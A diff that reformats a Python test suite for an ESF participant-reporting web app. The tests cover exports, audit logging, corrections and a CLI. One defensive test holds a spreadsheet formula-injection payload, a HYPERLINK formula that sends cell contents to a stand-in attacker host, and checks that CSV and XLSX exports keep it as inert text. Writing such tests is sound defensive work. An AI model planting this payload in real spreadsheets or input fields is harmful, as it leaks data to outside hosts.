@@ -43,8 +43,11 @@ def test_the_cumulative_report_and_another_rule_set_are_a_choice_away(client, lo
     login(manager)
     html = client.get("/reports/2025H2?scope=cumulative&rules=esf_2014_2020").get_data(as_text=True)
     assert "CO04" in html and "Above 54 years" in html
-    assert client.get("/reports/?period=2025H1&scope=cumulative").headers["Location"].endswith(
-        "/reports/2025H1?scope=cumulative")
+    assert (
+        client.get("/reports/?period=2025H1&scope=cumulative")
+        .headers["Location"]
+        .endswith("/reports/2025H1?scope=cumulative")
+    )
 
 
 def test_other_roles_are_refused(client, login, make_user, population):
@@ -65,8 +68,10 @@ def test_downloads_carry_the_same_figures(client, login, manager, population):
     status = next(t for t in data["tables"] if t["key"] == "labour_status")
     assert status["rows"][-1]["cells"] == {"total": 3, "women": 2, "men": 0, "other": 1}
     csv_text = client.get("/reports/2025H2/export.csv?scope=cumulative").data.decode("utf-8-sig")
-    assert "2025H2,Cumulative since the project start,1. Participants by labour-market status at entry,EECO01," \
-           "Total participants,Total,7" in csv_text
+    assert (
+        "2025H2,Cumulative since the project start,1. Participants by labour-market status at entry,EECO01,"
+        "Total participants,Total,7" in csv_text
+    )
 
 
 def test_spreadsheets_and_pdf_speak_words_with_headers_that_stay_in_view(app, client, login, manager, population):
@@ -92,8 +97,9 @@ def test_spreadsheets_and_pdf_speak_words_with_headers_that_stay_in_view(app, cl
     assert "33.3&nbsp;%" in html and "white-space: nowrap" in html and "esf_plus_2021_2027" not in html
 
 
-def test_text_that_looks_like_a_formula_stays_text_in_every_spreadsheet_export(client, login, make_user, manager,
-                                                                                population, person):
+def test_text_that_looks_like_a_formula_stays_text_in_every_spreadsheet_export(
+    client, login, make_user, manager, population, person
+):
     """A client's name and the ESF narrative typed as formulas come out as inert text in each CSV and XLSX."""
     payload = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
     person(payload, entries=[(date(2025, 9, 1), None, None)])
@@ -111,12 +117,18 @@ def test_text_that_looks_like_a_formula_stays_text_in_every_spreadsheet_export(c
         assert [cell for cell in cells[text] if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
 
     workbook = load_workbook(io.BytesIO(client.get("/reports/2025H2/export.xlsx").data))
-    texts = {cell.value: cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
-             if isinstance(cell.value, str)}
+    texts = {
+        cell.value: cell
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str)
+    }
     for typed in (payload, "-1+1", "@SUM(A1:A9)"):
         assert texts[typed].data_type == "s" and texts[typed].quotePrefix  # shown as typed, never computed
-    assert not [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
-                if cell.data_type == "f"]
+    assert not [
+        cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
+    ]
 
 
 def test_public_downloads_hide_small_cells(client, login, manager, population):
@@ -135,8 +147,11 @@ def test_the_pdf_is_rendered_from_the_same_html(app, client, login, manager, pop
     report = services.compute_report(H2, "period", as_of=date(2026, 2, 15))
     with app.test_request_context():
         html = exports.pdf_html(report.as_dict(), "en")
-    assert "<svg" in html and "Total participants" in html and "http" not in html.replace(
-        'xmlns="http://www.w3.org/2000/svg"', "")
+    assert (
+        "<svg" in html
+        and "Total participants" in html
+        and "http" not in html.replace('xmlns="http://www.w3.org/2000/svg"', "")
+    )
     login(manager)
     response = client.get("/reports/2025H2/export.pdf")
     if importlib.util.find_spec("isok.pdf") is None:
@@ -159,11 +174,13 @@ def test_drill_down_lists_people_and_is_audited(client, login, manager, populati
 def test_opening_a_participation_record_is_audited(client, login, manager, population):
     login(manager)
     record = participation_of(population["aino"])
-    before = db.session.scalar(select(func.count(AuditEntry.id)).where(AuditEntry.action == "view",
-                                                                       AuditEntry.object_type == "participation"))
+    before = db.session.scalar(
+        select(func.count(AuditEntry.id)).where(AuditEntry.action == "view", AuditEntry.object_type == "participation")
+    )
     assert client.get(f"/reports/participants/{record.id}").status_code == 200
-    after = db.session.scalar(select(func.count(AuditEntry.id)).where(AuditEntry.action == "view",
-                                                                      AuditEntry.object_type == "participation"))
+    after = db.session.scalar(
+        select(func.count(AuditEntry.id)).where(AuditEntry.action == "view", AuditEntry.object_type == "participation")
+    )
     assert after == before + 1
 
 
@@ -173,15 +190,23 @@ def test_submitting_freezes_and_a_correction_needs_a_reason(client, login, manag
     assert response.status_code == 302
     assert db.session.scalar(select(func.count(SubmittedReport.id))) == 1
     record = participation_of(population["aino"])
-    fields = {"entry_date": "2025-07-01", "gender": "female", "age_at_entry": "35", "labour_status": "unemployed",
-              "long_term_unemployed": "y", "isced_level": "6", **dict.fromkeys(
-                  ["third_country_national", "foreign_background", "minority", "disability", "homeless", "rural"],
-                  "not_asked")}
+    fields = {
+        "entry_date": "2025-07-01",
+        "gender": "female",
+        "age_at_entry": "35",
+        "labour_status": "unemployed",
+        "long_term_unemployed": "y",
+        "isced_level": "6",
+        **dict.fromkeys(
+            ["third_country_national", "foreign_background", "minority", "disability", "homeless", "rural"], "not_asked"
+        ),
+    }
     response = client.post(f"/reports/participants/{record.id}/correct", data={**fields, "reason": ""})
     assert response.status_code == 400
     assert 'value="35"' in response.get_data(as_text=True), "what was typed is kept"
-    response = client.post(f"/reports/participants/{record.id}/correct",
-                           data={**fields, "reason": "The diploma is tertiary."})
+    response = client.post(
+        f"/reports/participants/{record.id}/correct", data={**fields, "reason": "The diploma is tertiary."}
+    )
     assert response.status_code == 302
     record = db.session.get(Participation, record.id)
     assert record.isced_level == 6 and record.corrections[0].reason == "The diploma is tertiary."
@@ -189,12 +214,12 @@ def test_submitting_freezes_and_a_correction_needs_a_reason(client, login, manag
     assert "ISCED 5–8: tertiary" in html and "+1" in html and "-1" in html
 
 
-def test_results_form_refuses_a_better_situation_for_someone_not_employed_at_entry(client, login, manager,
-                                                                                    population):
+def test_results_form_refuses_a_better_situation_for_someone_not_employed_at_entry(client, login, manager, population):
     login(manager)
     record = participation_of(population["hilja"])
-    response = client.post(f"/reports/participants/{record.id}/results",
-                           data={"responded": "yes", "better_situation": "promotion"})
+    response = client.post(
+        f"/reports/participants/{record.id}/results", data={"responded": "yes", "better_situation": "promotion"}
+    )
     assert response.status_code == 400
     assert "only to people employed at entry" in response.get_data(as_text=True)
     response = client.post(f"/reports/participants/{record.id}/results", data={"responded": "yes"})
@@ -203,8 +228,9 @@ def test_results_form_refuses_a_better_situation_for_someone_not_employed_at_ent
 
 
 def test_the_command_writes_the_report(app, runner, population, tmp_path):
-    result = runner.invoke(args=["esf-report", "--period", "2025H2", "--format", "json", "--cumulative",
-                                 "--as-of", "2026-02-15"])
+    result = runner.invoke(
+        args=["esf-report", "--period", "2025H2", "--format", "json", "--cumulative", "--as-of", "2026-02-15"]
+    )
     assert result.exit_code == 0, result.output
     data = json.loads(result.stdout_bytes)
     assert data["scope"] == "cumulative" and data["tables"][0]["rows"][-1]["cells"]["total"] == 7
